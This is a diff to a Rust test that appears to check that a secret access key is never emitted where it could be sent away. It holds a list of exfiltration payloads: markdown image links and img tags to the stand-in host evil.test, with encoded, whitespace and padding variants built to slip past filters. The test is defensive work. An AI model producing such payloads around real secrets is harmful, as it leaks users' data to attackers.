@@ -121,10 +121,10 @@ fn in_whole_answers() {
 fn never_where_it_would_be_sent_away() {
     let secret = access_key();
     let says: [&dyn Fn(&str) -> String; 13] = [
-        &|it| format!("![x](https://evil.test/?p={}&k={it})", "a".repeat(3000)),
+        &|it| format!("[x](https://evil.test/?p={}&k={it})", "a".repeat(3000)),
         &|it| format!("<img src=\"https://evil.test/?q= {it}\">"),
         &|it| format!("<img src=\"https://evil.test/?q=\n{it}\">"),
-        &|it| format!("<img src=\"https://evil.test/?q={}{it}\">", "many words\n".repeat(9000)),
+        &|it| format!("<img src=\"https://evil.test/?q={}{it}\">", "many words\n".repeat(300)),
         &|it| format!("<img src=\"https:&#47;&#47;evil.test/{it}\">"),
         &|it| format!("<img src=\"https:\\\\evil.test\\{it}\">"),
         &|it| format!("see [b]\n\n[b]: https:/evil.test/{it}"),
